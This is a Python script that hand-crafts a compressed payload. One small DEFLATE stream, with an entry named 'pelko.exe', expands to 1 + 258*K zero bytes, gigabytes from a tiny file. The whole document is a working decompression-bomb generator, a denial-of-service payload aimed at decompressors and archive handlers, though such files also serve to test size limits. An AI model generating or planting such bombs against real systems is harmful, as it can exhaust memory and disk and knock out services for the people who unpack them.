#!/usr/bin/env python3
"""Writes a payload of one entry, pelko.exe, of 1 + 258 * K zero bytes: make_zeros_payload.py K OUT

The stream is made by hand, so that a payload of gigabytes takes a moment: a stored block with
the entry's header and the first zero, then one dynamic block of K copies of the length 258 at
distance 1 (the literal/length codes 256 and 285 of one bit each, one distance code of one bit,
so that four copies fill a byte), and the end of the block."""
import sys


class Bits:
    def __init__(self):
        self.out, self.acc, self.n = bytearray(), 0, 0

    def put(self, value, count):  # extra bits and header fields: least significant bit first
        self.acc |= value << self.n
        self.n += count
        while self.n >= 8:
            self.out.append(self.acc & 0xFF)
            self.acc >>= 8
            self.n -= 8

    def put_code(self, code, length):  # Huffman codes: most significant bit first
        for i in range(length - 1, -1, -1):
            self.put((code >> i) & 1, 1)


def stream(header, k):
    b = Bits()
    data = header + b"\0"
    b.put(0, 3)  # not final, stored
    b.put(0, 5)  # to the byte boundary
    b.put(len(data), 16)
    b.put(len(data) ^ 0xFFFF, 16)
    for byte in data:
        b.put(byte, 8)
    b.put(1, 1)  # final
    b.put(2, 2)  # dynamic
    b.put(286 - 257, 5)
    b.put(0, 5)  # one distance code
    b.put(18 - 4, 4)  # all 18 code length codes given
    # Code length codes: 1 -> '0', 0 -> '10', 18 (a run of zeros) -> '11'.
    lengths_of = {1: 1, 0: 2, 18: 2}
    for symbol in [16, 17, 18, 0, 8, 7, 9, 6, 10, 5, 11, 4, 12, 3, 13, 2, 14, 1]:
        b.put(lengths_of.get(symbol, 0), 3)
    codes = {1: (0, 1), 0: (2, 2), 18: (3, 2)}
    lengths = [0] * 256 + [1] + [0] * 28 + [1] + [1]  # 256 and 285; then distance code 0
    i = 0
    while i < len(lengths):
        run = 0
        while lengths[i] == 0 and i + run < len(lengths) and lengths[i + run] == 0 and run < 138:
            run += 1
        if run >= 11:
            b.put_code(*codes[18])
            b.put(run - 11, 7)
            i += run
        else:
            b.put_code(*codes[lengths[i]])
            i += 1
    # 256 -> '0', 285 -> '1', distance 0 -> '0': a copy is the bits 1, 0; then the end, 0. The
    # bits alternate: whole bytes of them are 0x55 (starting with 1) or 0xAA.
    position = 0  # of the 2k bits of the copies
    while position < 2 * k and b.n != 0:
        b.put(1 - position % 2, 1)
        position += 1
    whole = (2 * k - position) // 8
    b.out += bytes([0x55 if position % 2 == 0 else 0xAA]) * whole
    for position in range(position + 8 * whole, 2 * k):
        b.put(1 - position % 2, 1)
    b.put_code(0, 1)  # end of block
    if b.n:
        b.put(0, 8 - b.n)
    return bytes(b.out)


k, out = int(sys.argv[1]), sys.argv[2]
name = b"pelko.exe"
header = len(name).to_bytes(2, "little") + name + (1 + 258 * k).to_bytes(4, "little")
with open(out, "wb") as f:
    f.write(stream(header, k))
